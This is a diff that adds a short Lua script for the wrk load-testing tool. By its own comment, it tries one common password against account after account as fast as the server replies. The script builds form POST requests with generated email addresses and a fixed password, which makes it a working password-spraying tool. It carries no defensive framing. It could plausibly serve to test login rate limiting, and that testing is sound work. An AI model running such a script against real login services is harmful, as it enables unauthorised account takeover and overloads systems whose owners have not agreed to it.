@@ -1,0 +1,19 @@
+-- Tries a common password on one account after another, as fast as the server answers.
+local threads = 0
+
+function setup(thread)
+    thread:set("number", threads)
+    threads = threads + 1
+end
+
+function init()
+    count = 0
+    wrk.method = "POST"
+    wrk.headers["Content-Type"] = "application/x-www-form-urlencoded"
+    wrk.headers["Origin"] = wrk.scheme .. "://" .. wrk.host .. ":" .. wrk.port
+end
+
+function request()
+    count = count + 1
+    return wrk.format(nil, nil, nil, "email=somebody" .. number .. "x" .. count .. "%40example.test&password=correct+horse+battery+staple")
+end
